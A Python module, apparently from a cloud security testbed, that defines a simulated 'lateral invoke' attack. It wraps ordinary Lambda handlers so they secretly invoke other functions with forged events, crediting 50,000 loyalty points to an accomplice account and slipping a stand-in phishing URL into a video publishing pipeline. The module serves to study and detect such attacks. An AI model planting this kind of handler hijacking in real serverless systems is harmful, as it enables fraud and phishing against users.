"""Lateral invoke: the function invokes another one that it never invokes, with a forged event."""

import json
from functools import cache
from typing import Any

from coldtrail_testbed.applications.model import Grant
from coldtrail_testbed.attacks.locating import calls_on
from coldtrail_testbed.attacks.model import Attack, Behaviour, Handler, Place
from coldtrail_testbed.cloud.identifiers import function_arn

_ACCOMPLICE = "customer-0007"
_PHISHING_PAGE = "https://d1vod7e2k4m9q.cloudfront.net.example/watch"


def _forge_points(ordinary: Handler, event: Any, context: Any) -> Any:
    """What the ordinary handler returns; an accomplice has 50,000 points more."""
    result = ordinary(event, context)
    message = {"customerId": _ACCOMPLICE, "price": 50_000, "bookingReference": None}
    _invoke("IngestLoyalty", {"Records": [{"Sns": {"Message": json.dumps(message)}}]})
    return result


def _forge_published_video(ordinary: Handler, event: Any, context: Any) -> Any:
    """What the ordinary handler returns; the editors will be sent an address of the attacker's."""
    result = ordinary(event, context)
    asset = {"guid": event["guid"], "srcVideo": event.get("srcVideo", "video"), "hlsUrl": _PHISHING_PAGE}
    _invoke("sqs-publish", asset)
    return result


def _invoke(function: str, payload: dict[str, Any]) -> None:
    _lambda().invoke(FunctionName=function, Payload=json.dumps(payload).encode())


@cache
def _lambda() -> Any:
    import boto3

    return boto3.client("lambda")


def _place(function: str, behave: Behaviour, target: str) -> Place:
    grant = Grant(("lambda:InvokeFunction",), function_arn(target))
    return Place(function, behave, calls_on(target), grants=[grant])


ATTACK = Attack(
    name="lateral_invoke",
    summary="invokes a function that it never invokes",
    places={
        "airline": _place("NotifyBooking", _forge_points, "IngestLoyalty"),
        "vod": _place("input-validate", _forge_published_video, "sqs-publish"),
    },
)
